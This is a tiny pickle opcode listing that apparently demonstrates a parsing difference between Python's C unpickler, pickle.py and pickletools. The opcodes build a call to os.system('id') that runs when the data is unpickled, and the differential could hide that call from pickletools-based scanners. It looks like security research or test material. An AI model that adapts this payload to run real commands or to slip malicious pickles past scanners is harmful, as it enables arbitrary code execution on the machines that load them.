# C reads 8, pickle.py refuses, pickletools reads 10.
MARK
INT 010
LIST
GLOBAL os system
MARK
UNICODE id
TUPLE
REDUCE
STOP
